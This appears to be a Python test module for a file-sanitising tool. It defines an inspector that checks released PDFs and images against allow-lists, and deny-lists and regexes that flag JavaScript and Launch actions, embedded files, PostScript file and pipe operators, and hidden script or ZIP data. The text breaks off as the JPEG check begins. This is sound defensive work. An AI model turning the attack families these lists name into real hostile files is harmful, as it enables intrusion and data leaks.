"""An outsider's attacks on PDF documents in general and on pictures (JPEG, PNG, GIF, TIFF,
WebP, BMP, HEIC), written from README.md's "what each file type becomes" table and its
limits, ISO 32000-1/2, JFIF/EXIF/XMP/ICC.1, PNG/APNG, GIF89a, TIFF 6.0, WebP and HEIF and the
public write-ups (polyglots, phar-in-JPEG, GIFAR, pixel and decompression bombs, NTLM leaks
through UNC paths), not from cdr's code. PDF forms, tags and layers are attacked in
tests/test_attacks_pdf_forms.py and left out here.

Every hostile file goes through the real CLI in one run (``cli.py sanitize --json``, as an
operator runs it), and every released file is judged by the inspector below, written here:

- PDF: a walk from the trailer that accepts, for each kind of dictionary (catalog, page tree,
  page, resources, font, font descriptor, image, form, graphics state, colour space, pattern,
  shading, function, annotation, outline item, destination), only keys known to be harmless
  and refuses every action but GoTo, URI to http/https/mailto and the four standard named
  page moves, every /Next, /AA, /JS, embedded or external file, XFA, RichMedia, 3D, Screen
  and stream kept outside the file; every content stream it reaches (pages, forms,
  appearances, Type 3 glyphs, tiling patterns) read against ISO 32000-1 annex A's operators;
  no stream decoding beyond 64 MiB; one revision (one ``startxref``, ``%%EOF`` at the end);
  no ``<script``, no ZIP end record.
- pictures: the output's structure parsed here (JPEG markers, PNG chunks with their CRC, GIF
  blocks, RIFF chunks, TIFF IFDs, BMP header), accepting only segments known to be harmless,
  nothing after the end marker, ICC profiles with registered tag signatures inside their
  bounds, and the decoded size (and number of frames or pages) equal to the input's.

Quarantine is an acceptable outcome; a released file the inspector refuses is a crossing, and
so is a traceback, an operational failure or a file that took over 60 s. A crossing stays
here as a failing case marked ``xfail(strict=True)`` naming what crossed (``CROSSINGS``).
Benign controls (bench-corpus PDFs and camera JPEGs) must be released with their pages, text
and size.
"""

from __future__ import annotations

import io
import re
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import unquote

import pikepdf
import pypdfium2 as pdfium
import pytest
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from tests.attacks import runner

BENCH = Path("/work/shared/bench-corpus")
SECONDS_LIMIT = 60
DECODE_LIMIT = 64 * 1024 * 1024
MAX_ICC = 1024 * 1024

# ============================================================================ PDF inspector
# ISO 32000-1 annex A: the operators that only draw. PS, BX/EX and anything unknown are refused.
OPERATORS = set(
    "w J j M d ri i gs q Q cm m l c v y h re S s f F f* B B* b b* n W W* BT ET Tc Tw Tz TL Tf Tr Ts Td TD "
    "Tm T* Tj TJ ' \" d0 d1 CS cs SC SCN sc scn G g RG rg K k sh Do MP DP BMC BDC EMC".split()
)
FILTERS = {"/FlateDecode", "/LZWDecode", "/ASCIIHexDecode", "/ASCII85Decode", "/RunLengthDecode",
           "/CCITTFaxDecode", "/DCTDecode", "/JPXDecode", "/JBIG2Decode"}
INLINE_FILTERS = {"/FlateDecode", "/Fl", "/LZWDecode", "/LZW", "/ASCIIHexDecode", "/AHx", "/ASCII85Decode",
                  "/A85", "/RunLengthDecode", "/RL", "/CCITTFaxDecode", "/CCF", "/DCTDecode", "/DCT"}
CALCULATOR = set(
    "abs add atan ceiling cos cvi cvr div exp floor idiv ln log mod mul neg round sin sqrt sub truncate and "
    "bitshift eq false ge gt le lt ne not or true xor if ifelse copy dup exch index pop roll { }".split()
)
CMAP_WORDS = set(
    "findresource begin end dict def CMapName begincmap endcmap defineresource pop currentdict usecmap usefont "
    "begincodespacerange endcodespacerange begincidrange endcidrange begincidchar endcidchar beginbfrange "
    "endbfrange beginbfchar endbfchar beginnotdefrange endnotdefrange beginnotdefchar endnotdefchar".split()
)
STANDARD_NAMED = {"/NextPage", "/PrevPage", "/FirstPage", "/LastPage"}
DEVICE_SPACES = {"/DeviceGray", "/DeviceRGB", "/DeviceCMYK", "/Pattern", "/G", "/RGB", "/CMYK", "/I", "/Indexed"}
MARKUP = {"/Text", "/FreeText", "/Line", "/Square", "/Circle", "/Polygon", "/PolyLine", "/Highlight", "/Underline",
          "/Squiggly", "/StrikeOut", "/Stamp", "/Caret", "/Ink"}
# what a lenient part (structure tree, widgets: attacked in test_attacks_pdf_forms.py) must never hold
DANGER_KEYS = {"/JS", "/JavaScript", "/AA", "/OpenAction", "/EmbeddedFiles", "/EF", "/XFA", "/RichMediaContent",
               "/Launch", "/Win", "/Unix", "/Mac", "/URI", "/Next", "/AF", "/FS", "/Ref", "/OPI", "/PS"}
DANGER_NAMES = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/GoTo3DView",
                "/Rendition", "/Movie", "/Sound", "/RichMedia", "/RichMediaExecute", "/3D", "/Screen",
                "/FileAttachment", "/EmbeddedFile", "/Filespec", "/ResetForm", "/Hide", "/SetOCGState", "/Trans",
                "/Thread"}

STREAM = {"Length": "", "Filter": "", "DecodeParms": "decodeparms", "DL": ""}
FUNCTION = {"FunctionType": "", "Domain": "", "Range": "", "Size": "", "BitsPerSample": "", "Order": "",
            "Encode": "", "Decode": "", "C0": "", "C1": "", "N": "", "Functions": "functions", "Bounds": "", **STREAM}
KEYS: dict[str, dict[str, str]] = {
    "trailer": {"Root": "catalog", "Info": "info", "ID": "", "Size": "", "Type": "", "W": "", "Index": "",
                "Filter": "", "DecodeParms": "decodeparms", "Length": "", "DocChecksum": ""},
    "decodeparm": {k: "" for k in "Predictor Colors BitsPerComponent Columns EarlyChange K EndOfLine EncodedByteAlign "
                   "Rows EndOfBlock BlackIs1 DamagedRowsBeforeError ColorTransform".split()}
    | {"JBIG2Globals": "stream"},
    "catalog": {"Type": "", "Version": "", "Pages": "pages", "Outlines": "outlines", "Names": "names",
                "Dests": "destmap", "PageMode": "", "PageLayout": "", "ViewerPreferences": "viewer",
                "MarkInfo": "markinfo", "Lang": "", "PageLabels": "labels", "StructTreeRoot": "lax",
                "AcroForm": "lax", "OCProperties": "lax", "Extensions": "lax", "OpenAction": "dest"},
    "info": {"Title": "", "Producer": "", "Creator": "", "CreationDate": "", "ModDate": "", "Author": "",
             "Subject": "", "Keywords": "", "Trapped": ""},
    "viewer": {k: "" for k in "HideToolbar HideMenubar HideWindowUI FitWindow CenterWindow DisplayDocTitle "
               "NonFullScreenPageMode Direction ViewArea ViewClip PrintArea PrintClip PrintScaling Duplex "
               "PickTrayByPDFSize PrintPageRange NumCopies".split()},
    "markinfo": {"Marked": "", "UserProperties": "", "Suspects": ""},
    "labels": {"Nums": "labelnums", "Kids": "labels", "Limits": ""},
    "label": {"Type": "", "S": "", "P": "", "St": ""},
    "pages": {"Type": "", "Kids": "kids", "Count": "", "Parent": "skip", "Resources": "resources",
              "MediaBox": "", "CropBox": "", "Rotate": ""},
    "page": {"Type": "", "Parent": "skip", "Resources": "resources", "Contents": "contents", "MediaBox": "",
             "CropBox": "", "BleedBox": "", "TrimBox": "", "ArtBox": "", "Rotate": "", "Annots": "annots",
             "UserUnit": "", "StructParents": "", "Group": "group", "Tabs": "", "Lang": ""},
    "group": {"Type": "", "S": "", "CS": "cs", "I": "", "K": ""},
    "resources": {"Font": "map:font", "XObject": "map:xobject", "ExtGState": "map:gs", "ColorSpace": "map:cs",
                  "Pattern": "map:pattern", "Shading": "map:shading", "ProcSet": "", "Properties": "map:lax"},
    "font": {"Type": "", "Subtype": "", "Name": "", "BaseFont": "", "FirstChar": "", "LastChar": "", "Widths": "",
             "FontDescriptor": "fontdescriptor", "Encoding": "encoding", "ToUnicode": "cmap",
             "DescendantFonts": "cidfonts", "FontBBox": "", "FontMatrix": "", "CharProcs": "map:glyph",
             "Resources": "resources"},
    "cidfont": {"Type": "", "Subtype": "", "BaseFont": "", "CIDSystemInfo": "cidsysteminfo",
                "FontDescriptor": "fontdescriptor", "DW": "", "W": "", "DW2": "", "W2": "", "CIDToGIDMap": "stream"},
    "cidsysteminfo": {"Registry": "", "Ordering": "", "Supplement": ""},
    "encoding": {"Type": "", "BaseEncoding": "", "Differences": ""},
    "cmap": {"Type": "", "CMapName": "", "CIDSystemInfo": "cidsysteminfo", "WMode": "", "UseCMap": "cmap", **STREAM},
    "fontdescriptor": {k: "" for k in "Type FontName FontFamily FontStretch FontWeight Flags FontBBox ItalicAngle "
                       "Ascent Descent Leading CapHeight XHeight StemV StemH AvgWidth MaxWidth MissingWidth CharSet "
                       "Style Lang".split()} | {"FontFile": "fontfile", "FontFile2": "fontfile",
                                                "FontFile3": "fontfile", "CIDSet": "stream", "FD": "lax"},
    "fontfile": {"Length1": "", "Length2": "", "Length3": "", "Subtype": "", **STREAM},
    "stream": dict(STREAM),
    "image": {"Type": "", "Subtype": "", "Width": "", "Height": "", "ColorSpace": "cs", "BitsPerComponent": "",
              "Intent": "", "ImageMask": "", "Mask": "mask", "SMask": "image", "Decode": "", "Interpolate": "",
              "SMaskInData": "", "Matte": "", "Name": "", "StructParent": "", **STREAM},
    "form": {"Type": "", "Subtype": "", "FormType": "", "BBox": "", "Matrix": "", "Resources": "resources",
             "Group": "group", "Name": "", "StructParents": "", "StructParent": "", "OC": "lax", **STREAM},
    "gs": {k: "" for k in "Type LW LC LJ ML D RI OP op OPM FL SM SA BM CA ca AIS TK UseBlackPtComp".split()}
    | {"Font": "", "SMask": "softmask", "TR": "functions", "TR2": "functions", "BG": "function",
       "BG2": "function", "UCR": "function", "UCR2": "function"},
    "softmask": {"Type": "", "S": "", "G": "form", "BC": "", "TR": "function"},
    "function": FUNCTION,
    "pattern": {"Type": "", "PatternType": "", "PaintType": "", "TilingType": "", "BBox": "", "XStep": "",
                "YStep": "", "Resources": "resources", "Matrix": "", "Shading": "shading", "ExtGState": "gs",
                **STREAM},
    "shading": {"ShadingType": "", "ColorSpace": "cs", "Background": "", "BBox": "", "AntiAlias": "", "Coords": "",
                "Domain": "", "Function": "functions", "Extend": "", "Matrix": "", "BitsPerCoordinate": "",
                "BitsPerComponent": "", "BitsPerFlag": "", "Decode": "", "VerticesPerRow": "", **STREAM},
    "icc": {"N": "", "Alternate": "cs", "Range": "", **STREAM},
    "caldict": {"WhitePoint": "", "BlackPoint": "", "Gamma": "", "Matrix": "", "Range": ""},
    "devicenattrs": {"Subtype": "", "Colorants": "map:cs", "Process": "lax", "MixingHints": "lax"},
    "link": {"Type": "", "Subtype": "", "Rect": "", "Border": "", "BS": "", "C": "", "Dest": "dest",
             "A": "action", "H": "", "QuadPoints": "", "P": "skip", "NM": "", "M": "", "F": "",
             "StructParent": "", "Contents": ""},
    "markup": {k: "" for k in "Type Subtype Rect Contents NM M F AS Border C StructParent BS BE CA T CreationDate "
               "Subj IT RT Open Name Q DA DS RD IC QuadPoints InkList Vertices L LE LL LLE LLO Cap CP CL Lang "
               "RC".split()} | {"AP": "ap", "P": "skip", "Popup": "annot", "IRT": "annot"},
    "popup": {"Type": "", "Subtype": "", "Rect": "", "Parent": "annot", "Open": "", "F": "", "P": "skip",
              "NM": "", "M": "", "C": "", "Contents": ""},
    "ap": {"N": "appearance", "R": "appearance", "D": "appearance"},
    "outlines": {"Type": "", "First": "outline", "Last": "outline", "Count": ""},
    "outline": {"Title": "", "Parent": "skip", "Prev": "outline", "Next": "outline", "First": "outline",
                "Last": "outline", "Count": "", "Dest": "dest", "A": "action", "C": "", "F": ""},
    "names": {"Dests": "desttree"},
    "desttree": {"Kids": "desttrees", "Names": "destnames", "Limits": ""},
    "destdict": {"D": "dest"},
    "goto": {"Type": "", "S": "", "D": "dest"},
    "uri": {"Type": "", "S": "", "URI": "", "IsMap": ""},
    "named": {"Type": "", "S": "", "N": ""},
}


@dataclass
class PdfInspector:
    """Walks a released PDF from its trailer; ``findings`` says what is not known harmless."""

    pdf: pikepdf.Pdf
    findings: list[str]
    seen: set[tuple[tuple[int, int], str]]

    @classmethod
    def run(cls, pdf: pikepdf.Pdf) -> list[str]:
        inspector = cls(pdf, [], set())
        inspector.pages = {page.obj.objgen for page in pdf.pages}
        inspector.visit(pdf.trailer, "trailer", "trailer")
        return inspector.findings

    def visit(self, obj: object, kind: str, where: str) -> None:
        if kind == "skip":
            return
        if isinstance(obj, (Dictionary, Stream)) and obj.is_indirect:
            key = (obj.objgen, kind)
            if key in self.seen:
                return
            self.seen.add(key)
        if kind.startswith("map:"):
            return self.mapping(obj, kind[4:], where)
        special = getattr(self, f"kind_{kind}", None)
        if special:
            return special(obj, where)
        self.keys(obj, kind, where)

    def keys(self, obj: object, kind: str, where: str) -> None:
        if not isinstance(obj, (Dictionary, Stream)):
            self.findings.append(f"{where}: a {kind} that is not a dictionary ({type(obj).__name__})")
            return
        allowed = KEYS[kind]
        for key in obj.keys():
            child = allowed.get(key[1:])
            if child is None:
                self.findings.append(f"{where}: {key} is not a key a {kind} needs")
            elif child:
                self.visit(obj[key], child, f"{where}{key}")
            else:
                self.plain(obj[key], f"{where}{key}")
        if isinstance(obj, Stream):
            self.stream(obj, where)

    def plain(self, value: object, where: str) -> None:
        """A value that is data: numbers, names, strings, arrays of them, or a reference to a page."""
        if isinstance(value, (Dictionary, Stream)):
            if value.is_indirect and value.objgen in self.pages:
                return
            self.findings.append(f"{where}: a dictionary where plain data belongs ({sorted(value.keys())[:8]})")
        elif isinstance(value, Array):
            for n, item in enumerate(value):
                self.plain(item, f"{where}[{n}]")
        elif isinstance(value, Name) and str(value) in DANGER_NAMES:
            self.findings.append(f"{where}: {value}")

    def mapping(self, obj: object, kind: str, where: str) -> None:
        if not isinstance(obj, Dictionary):
            self.findings.append(f"{where}: not a dictionary")
            return
        for key in obj.keys():
            self.visit(obj[key], kind, f"{where}{key}")

    def each(self, obj: object, kind: str, where: str) -> None:
        """An array of one kind (a single object where the array may be left out)."""
        for n, item in enumerate(obj if isinstance(obj, Array) else [obj]):
            self.visit(item, kind, f"{where}[{n}]")

    def stream(self, obj: Stream, where: str) -> None:
        filters = obj.get("/Filter")
        names = [str(f) for f in (filters if isinstance(filters, Array) else [filters] if filters else [])]
        for name in names:
            if name not in FILTERS:
                self.findings.append(f"{where}: filter {name}")
        if names:
            left = trailing_bytes(names[0], obj.read_raw_bytes())
            if left:
                self.findings.append(f"{where}: {left} bytes stored after the end of the {names[0]} data")
        if names and set(names) <= {"/FlateDecode"} and obj.get("/DecodeParms") is None:
            data = obj.read_raw_bytes()
            try:
                for _ in names:
                    inflater = zlib.decompressobj()
                    data = inflater.decompress(data, DECODE_LIMIT + 1)
                    if len(data) > DECODE_LIMIT:
                        self.findings.append(f"{where}: a stream decoding beyond {DECODE_LIMIT} bytes")
                        return
            except zlib.error:
                pass

    # ---- kinds with their own shape
    def kind_decodeparms(self, obj: object, where: str) -> None:
        for n, item in enumerate(obj if isinstance(obj, Array) else [obj]):
            if item is not None:
                self.visit(item, "decodeparm", f"{where}[{n}]")

    def kind_kids(self, obj: object, where: str) -> None:
        for n, kid in enumerate(obj):
            self.visit(kid, "page" if kid.get("/Type") == "/Page" else "pages", f"{where}[{n}]")

    def kind_contents(self, obj: object, where: str) -> None:
        if isinstance(obj, Array):
            for n, part in enumerate(obj):
                self.kind_contents(part, f"{where}[{n}]")
            return
        self.keys(obj, "stream", where)
        self.drawing(obj, where)

    def kind_glyph(self, obj: object, where: str) -> None:
        self.keys(obj, "stream", where)
        self.drawing(obj, where)

    def kind_annots(self, obj: object, where: str) -> None:
        self.each(obj, "annot", where)

    def kind_annot(self, obj: Dictionary, where: str) -> None:
        subtype = str(obj.get("/Subtype"))
        if subtype == "/Link":
            self.keys(obj, "link", where)
        elif subtype in MARKUP:
            self.keys(obj, "markup", where)
        elif subtype == "/Popup":
            self.keys(obj, "popup", where)
        elif subtype == "/Widget":
            self.kind_lax(obj, where)
        else:
            self.findings.append(f"{where}: annotation {subtype}")

    def kind_appearance(self, obj: object, where: str) -> None:
        if isinstance(obj, Stream):
            self.kind_form(obj, where)
        elif isinstance(obj, Dictionary):
            for key in obj.keys():
                self.kind_form(obj[key], f"{where}{key}")
        else:
            self.findings.append(f"{where}: an appearance that is not a form")

    def kind_xobject(self, obj: object, where: str) -> None:
        subtype = str(obj.get("/Subtype")) if isinstance(obj, Stream) else None
        if subtype == "/Image":
            self.kind_image(obj, where)
        elif subtype == "/Form":
            self.kind_form(obj, where)
        else:
            self.findings.append(f"{where}: XObject {subtype}")

    def kind_image(self, obj: object, where: str) -> None:
        self.keys(obj, "image", where)
        if isinstance(obj, Stream):
            raw = obj.read_raw_bytes()
            filters = str(obj.get("/Filter"))
            if "DCTDecode" in filters and not raw.startswith(b"\xff\xd8"):
                self.findings.append(f"{where}: DCT data that is not a JPEG")
            elif "DCTDecode" in filters:  # the JPEG a viewer decodes: the same allow-list as a released .jpg
                self.findings += [f"{where}: {finding}" for finding in inspect_jpeg(raw)]
            if "JPXDecode" in filters and not (raw.startswith(b"\xff\x4f\xff\x51") or raw[4:8] == b"jP  "):
                self.findings.append(f"{where}: JPX data that is not JPEG 2000")
            elif "JPXDecode" in filters:
                self.findings += [f"{where}: {finding}" for finding in inspect_jpx(raw)]

    def kind_mask(self, obj: object, where: str) -> None:
        if isinstance(obj, Stream):
            self.kind_image(obj, where)
        else:
            self.plain(obj, where)

    def kind_form(self, obj: object, where: str) -> None:
        if not isinstance(obj, Stream) or obj.get("/Subtype", Name.Form) != Name.Form:
            self.findings.append(f"{where}: a form that is not a form XObject")
            return
        self.keys(obj, "form", where)
        self.drawing(obj, where)

    def kind_cidfonts(self, obj: object, where: str) -> None:
        self.each(obj, "cidfont", where)

    def kind_fontfile(self, obj: Stream, where: str) -> None:
        self.keys(obj, "fontfile", where)
        head = obj.read_bytes()[:4] if isinstance(obj, Stream) else b""
        if "FontFile2" in where and head not in (b"\x00\x01\x00\x00", b"true", b"OTTO", b"ttcf"):
            self.findings.append(f"{where}: FontFile2 that is not TrueType ({head!r})")
        if "FontFile2" in where and head in (b"\x00\x01\x00\x00", b"true"):
            self.findings += [f"{where}: {finding}" for finding in truetype_tables(obj.read_bytes())]
        subtype = str(obj.get("/Subtype")) if isinstance(obj, Stream) else ""
        if "FontFile3" in where and subtype == "/OpenType" and head not in (b"\x00\x01\x00\x00", b"true", b"OTTO"):
            self.findings.append(f"{where}: FontFile3 /OpenType that is not OpenType ({head!r})")
        if "FontFile3" in where and subtype != "/OpenType" and head[:1] != b"\x01":
            self.findings.append(f"{where}: FontFile3 {subtype} that is not CFF ({head!r})")
        if "FontFile" in where and head[:2] == b"%!":
            clear = obj.read_bytes().split(b"eexec", 1)[0]
            if re.search(rb"(?<![A-Za-z/])(run|file|deletefile|renamefile|exec|setpagedevice|startjob|exitserver)"
                         rb"(?![A-Za-z])|%pipe%", clear):
                self.findings.append(f"{where}: Type 1 clear text with PostScript beyond a font header")

    def kind_encoding(self, obj: object, where: str) -> None:
        if isinstance(obj, Name):
            return
        if isinstance(obj, Stream):
            return self.kind_cmap(obj, where)
        self.keys(obj, "encoding", where)

    def kind_cmap(self, obj: object, where: str) -> None:
        """A CMap program (§9.7.5, Adobe TN 5014) is PostScript: only a CMap's own words."""
        self.keys(obj, "cmap", where)
        if isinstance(obj, Stream):
            text = re.sub(rb"\((?:[^()\\]|\\.)*\)|<[0-9A-Fa-f\s]*>|/[^\s/<>\[\](){}%]*|%[^\n]*|<<|>>|[\[\]{}]|"
                          rb"[-+.\d]+(?![^\s/<>\[\]()])", b" ", obj.read_bytes())
            odd = sorted({w.decode("latin-1") for w in text.split()} - CMAP_WORDS)
            if odd:
                self.findings.append(f"{where}: CMap with PostScript beyond a CMap's words {odd[:6]}")

    def kind_cs(self, obj: object, where: str) -> None:
        if isinstance(obj, Name):
            return
        if not isinstance(obj, Array) or not len(obj):
            self.findings.append(f"{where}: colour space {type(obj).__name__}")
            return
        family = str(obj[0])
        rest = list(obj)[1:]
        if family == "/ICCBased":
            self.visit(rest[0], "icc", f"{where}[1]")
            if isinstance(rest[0], Stream):
                self.findings += check_icc(rest[0].read_bytes(), f"{where}[1]")
        elif family in ("/Indexed", "/I"):
            self.visit(rest[0], "cs", f"{where}[1]")
            if isinstance(rest[2], Stream):
                self.keys(rest[2], "stream", f"{where}[3]")
        elif family == "/Separation":
            self.visit(rest[1], "cs", f"{where}[2]")
            self.visit(rest[2], "function", f"{where}[3]")
        elif family == "/DeviceN":
            self.visit(rest[1], "cs", f"{where}[2]")
            self.visit(rest[2], "function", f"{where}[3]")
            if len(rest) > 3:
                self.visit(rest[3], "devicenattrs", f"{where}[4]")
        elif family in ("/CalRGB", "/CalGray", "/Lab"):
            self.visit(rest[0], "caldict", f"{where}[1]")
        elif family == "/Pattern":
            if rest:
                self.visit(rest[0], "cs", f"{where}[1]")
        elif family not in DEVICE_SPACES:
            self.findings.append(f"{where}: colour space {family}")

    def kind_function(self, obj: object, where: str) -> None:
        if isinstance(obj, Name):  # /Identity
            return
        self.keys(obj, "function", where)
        if isinstance(obj, Stream) and obj.get("/FunctionType") == 4:
            words = set(re.findall(rb"[{}]|[^\s{}]+", obj.read_bytes())) - {b"{", b"}"}
            odd = [w for w in words if w.decode("latin-1") not in CALCULATOR and not re.fullmatch(rb"[-+.\d]+", w)]
            if odd:
                self.findings.append(f"{where}: type 4 function with {odd[:5]}")

    def kind_functions(self, obj: object, where: str) -> None:
        self.each(obj, "function", where)

    def kind_pattern(self, obj: object, where: str) -> None:
        self.keys(obj, "pattern", where)
        if isinstance(obj, Stream):
            self.drawing(obj, where)

    def kind_labelnums(self, obj: object, where: str) -> None:
        for n, item in enumerate(obj):
            if n % 2:
                self.visit(item, "label", f"{where}[{n}]")

    def kind_dest(self, obj: object, where: str) -> None:
        if isinstance(obj, (Name, String)):
            return
        if isinstance(obj, Array):
            return self.plain(obj, where)
        if isinstance(obj, Dictionary) and "/S" in obj:
            return self.kind_action(obj, where)
        self.keys(obj, "destdict", where)

    def kind_destmap(self, obj: object, where: str) -> None:
        self.mapping(obj, "dest", where)

    def kind_desttrees(self, obj: object, where: str) -> None:
        self.each(obj, "desttree", where)

    def kind_destnames(self, obj: object, where: str) -> None:
        for n, item in enumerate(obj):
            if n % 2:
                self.visit(item, "dest", f"{where}[{n}]")

    def kind_action(self, obj: object, where: str) -> None:
        if not isinstance(obj, Dictionary):
            self.findings.append(f"{where}: an action that is not a dictionary")
            return
        kind = str(obj.get("/S"))
        if kind == "/GoTo":
            self.keys(obj, "goto", where)
        elif kind == "/URI":
            self.keys(obj, "uri", where)
            value = obj.get("/URI", "")
            target = str(value).strip().lower() if isinstance(value, String) else repr(value)
            if not target.startswith(("http://", "https://", "mailto:")) or any(ord(ch) < 32 for ch in target):
                self.findings.append(f"{where}: URI {target!r}")
            elif target.startswith("mailto:"):
                fields = [unquote(part.split("=", 1)[0]).strip() for part in re.split("[?&]", target)[1:]]
                if any(field not in ("to", "cc", "bcc", "subject", "body") for field in fields):
                    self.findings.append(f"{where}: mailto header beyond to/cc/bcc/subject/body {target!r}")
        elif kind == "/Named" and str(obj.get("/N")) in STANDARD_NAMED:
            self.keys(obj, "named", where)
        else:
            self.findings.append(f"{where}: action {kind}")

    def kind_lax(self, obj: object, where: str, depth: int = 0) -> None:
        """Parts attacked elsewhere (tags, widgets, layers): only nothing that acts."""
        if depth > 60:
            return
        if isinstance(obj, (Dictionary, Stream)):
            if obj.is_indirect:
                key = (obj.objgen, "lax")
                if depth and key in self.seen:
                    return
                self.seen.add(key)
            for key in obj.keys():
                value = obj[key]
                if key in DANGER_KEYS:
                    self.findings.append(f"{where}{key} in a lenient part")
                elif key == "/A":
                    self.kind_action(value, f"{where}{key}")
                elif key == "/AP":
                    self.visit(value, "ap", f"{where}{key}")
                elif key in ("/Resources", "/DR"):
                    self.visit(value, "resources", f"{where}{key}")
                elif key not in ("/P", "/Parent", "/Pg", "/Obj", "/Stm"):
                    self.kind_lax(value, f"{where}{key}", depth + 1)
        elif isinstance(obj, Array):
            for n, item in enumerate(obj):
                self.kind_lax(item, f"{where}[{n}]", depth + 1)
        elif isinstance(obj, Name) and str(obj) in DANGER_NAMES:
            self.findings.append(f"{where}: {obj} in a lenient part")

    def drawing(self, obj: Stream, where: str) -> None:
        """Every operator of a content stream must be one of annex A's."""
        try:
            instructions = pikepdf.parse_content_stream(obj)
        except pikepdf.PdfError as error:
            self.findings.append(f"{where}: content stream does not parse: {error}")
            return
        for instruction in instructions:
            if isinstance(instruction, pikepdf.ContentStreamInlineImage):
                image = instruction.iimage
                for name in image.filters:
                    if str(name) not in INLINE_FILTERS:
                        self.findings.append(f"{where}: inline image filter {name}")
                if any(str(name) in ("/DCTDecode", "/DCT") for name in image.filters):
                    if not bytes(image.read_raw_bytes()).startswith(b"\xff\xd8"):
                        self.findings.append(f"{where}: inline DCT data that is not a JPEG")
                continue
            operator = str(instruction.operator)
            if operator not in OPERATORS:
                self.findings.append(f"{where}: operator {operator!r}")


# TrueType/OpenType tables a PDF viewer reads to draw glyphs (ISO 32000-1 §9.6.6.4, OpenType 1.9)
TRUETYPE_TABLES = {b"head", b"hhea", b"hmtx", b"maxp", b"loca", b"glyf", b"cmap", b"post", b"name", b"OS/2", b"cvt ",
                   b"fpgm", b"prep", b"gasp", b"kern", b"vhea", b"vmtx", b"hdmx", b"VDMX", b"LTSH", b"PCLT",
                   # layout and signature tables subsetters leave in: inert to a PDF viewer
                   b"GDEF", b"GSUB", b"GPOS", b"BASE", b"JSTF", b"DSIG", b"FFTM", b"vORG"}


def truetype_tables(font: bytes) -> list[str]:
    """The table directory: known tables inside the font, nothing stored after the last one."""
    count = struct.unpack_from(">H", font, 4)[0]
    findings, end = [], 12 + 16 * count
    for n in range(count):
        tag, _, offset, length = struct.unpack_from(">4sIII", font, 12 + 16 * n)
        if tag not in TRUETYPE_TABLES:
            findings.append(f"TrueType table {tag!r}")
        end = max(end, offset + length)
    if len(font) > end + 3:
        findings.append(f"{len(font) - end} bytes after the font's last table")
    return findings


def trailing_bytes(name: str, raw: bytes) -> int:
    """How many bytes a stream keeps after its first filter's end of data (§7.4): a decoder
    stops there, so whatever follows rides along unseen (a ZIP, a page)."""
    if name == "/FlateDecode":
        inflater = zlib.decompressobj()
        try:
            while raw and not inflater.eof:
                inflater.decompress(raw, 1 << 20)
                raw = inflater.unconsumed_tail
        except zlib.error:
            return 0
        return len(inflater.unused_data.strip(b"\r\n \x00")) if inflater.eof else 0
    if name == "/ASCIIHexDecode" and b">" in raw:
        return len(raw.split(b">", 1)[1].strip())
    if name == "/ASCII85Decode" and b"~>" in raw:
        return len(raw.split(b"~>", 1)[1].strip())
    if name == "/RunLengthDecode":
        at = 0
        while at < len(raw) and raw[at] != 128:
            at += 2 + raw[at] if raw[at] < 128 else 2
        return len(raw[at + 1:].strip())
    return 0


def inspect_pdf(data: bytes) -> list[str]:
    findings = []
    if not data.startswith(b"%PDF-"):
        findings.append("does not start with %PDF-")
    if data.count(b"startxref") != 1 or not data.rstrip().endswith(b"%%EOF") or data.count(b"%%EOF") != 1:
        findings.append("more than one revision, or bytes after %%EOF")
    if b"<script" in data.lower():
        findings.append("<script in the file's bytes")
    if b"PK\x05\x06" in data or zipfile.is_zipfile(io.BytesIO(data)):
        findings.append("a ZIP end record: the file opens as a ZIP too")
    try:
        with pikepdf.open(io.BytesIO(data)) as pdf:
            if pdf.is_encrypted:
                findings.append("still encrypted")
            findings += PdfInspector.run(pdf)
    except pikepdf.PdfError as error:
        findings.append(f"does not open: {error}")
    return findings


# ============================================================================ picture inspector
JPEG_KEPT = {0xC0, 0xC1, 0xC2, 0xC4, 0xDB, 0xDD, 0xE0, 0xE2, 0xEE}  # SOF0-2, DHT, DQT, DRI, APP0, APP2 ICC, APP14
PNG_KEPT = {b"IHDR", b"PLTE", b"IDAT", b"IEND", b"tRNS", b"gAMA", b"cHRM", b"sRGB", b"iCCP", b"pHYs", b"sBIT",
            b"bKGD", b"acTL", b"fcTL", b"fdAT"}
WEBP_KEPT = {b"VP8 ", b"VP8L", b"VP8X", b"ALPH", b"ANIM", b"ANMF", b"ICCP"}
# TIFF 6.0 baseline and extension tags that describe pixels; no EXIF/GPS/XMP/IPTC/Photoshop
# pointers, no SubIFDs (another image), no free-text tags (description, artist, software...)
TIFF_KEPT = {254, 255, 256, 257, 258, 259, 262, 263, 266, 273, 274, 277, 278, 279, 280, 281, 282, 283, 284, 286,
             287, 290, 291, 296, 297, 317, 318, 319, 320, 322, 323, 324, 325, 338, 339, 340, 341, 347, 529, 530,
             531, 532, 34675}
# ICC.1:2010 §9 registered tags (and the v2 ones still written)
ICC_TAGS = {s.encode() for s in (
    "A2B0 A2B1 A2B2 B2A0 B2A1 B2A2 D2B0 D2B1 D2B2 D2B3 B2D0 B2D1 B2D2 B2D3 bXYZ bTRC bkpt calt targ chad chrm "
    "clro clrt clot ciis cprt dmnd dmdd desc gamt kTRC gXYZ gTRC lumi meas mluc ncl2 pre0 pre1 pre2 resp rig0 rig2 "
    "rXYZ rTRC seqd seqd tech vued view wtpt bfd devs pseq psid scrd scrn ucrb Kd0 K007 vcgt").split()}


def check_icc(profile: bytes, where: str) -> list[str]:
    if len(profile) > MAX_ICC or len(profile) < 132 or profile[36:40] != b"acsp":
        return [f"{where}: ICC profile without a sound header"]
    declared, count = struct.unpack_from(">I", profile, 0)[0], struct.unpack_from(">I", profile, 128)[0]
    if declared != len(profile) or 132 + 12 * count > len(profile):
        return [f"{where}: ICC size {declared} with {count} tags in {len(profile)} bytes"]
    findings = []
    for n in range(count):
        signature, offset, size = struct.unpack_from(">4sII", profile, 132 + 12 * n)
        if signature.strip() not in ICC_TAGS and signature not in ICC_TAGS:
            findings.append(f"{where}: ICC tag {signature!r} is not a registered one")
        if offset < 132 or offset + size > len(profile):
            findings.append(f"{where}: ICC tag {signature!r} outside the profile")
    if re.search(rb"<script|<html|<\?php|PK\x03\x04|%PDF", profile, re.I):
        findings.append(f"{where}: ICC profile carries markup or another file")
    return findings


def inspect_jpeg(data: bytes) -> list[str]:
    findings: list[str] = []
